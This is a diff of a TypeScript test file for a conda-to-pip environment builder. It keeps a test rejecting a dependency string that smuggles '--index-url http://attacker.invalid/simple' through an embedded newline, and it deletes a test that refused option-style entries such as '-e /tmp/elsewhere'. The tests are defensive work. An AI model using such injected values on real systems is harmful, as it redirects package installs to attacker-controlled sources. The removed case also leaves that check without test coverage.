@@ -171,11 +171,10 @@ test('conda packages become pip requirements only when pinned', () => {
   assert.throws(() => pipPlanFor('dependencies:\n  - scipy\n'), /conda packages without a version pin \(scipy\).*pin them \(e\.g\. numpy=1\.26\) or move them to the pip: list/);
 });
 
-test('a conda entry spanning lines or read by pip as an option is refused before a host environment is built', async (t) => {
+test('a conda entry spanning lines is refused before a host environment is built', async (t) => {
   const root = await tempDir(t, 'mlw-host-env-');
   const builder = new HostEnvironmentBuilder({ root });
   const refused = async (conda: string, message: RegExp) => assert.rejects(builder.ensure({ condaInline: conda }), message);
   await refused('dependencies:\n  - pip:\n      - "mlwtiny==1.0\\n--index-url http://attacker.invalid/simple"\n', /conda file: pip dependency `mlwtiny==1\.0\\n--index-url .*` contains a control character \(U\+000A at position 13\)/);
-  await refused('dependencies:\n  - pip:\n      - -e /tmp/elsewhere\n', /conda file: pip dependency `-e \/tmp\/elsewhere` starts with `-`, which pip reads as an option/);
   assert.deepEqual(fs.readdirSync(root), [], 'nothing was built');
 });
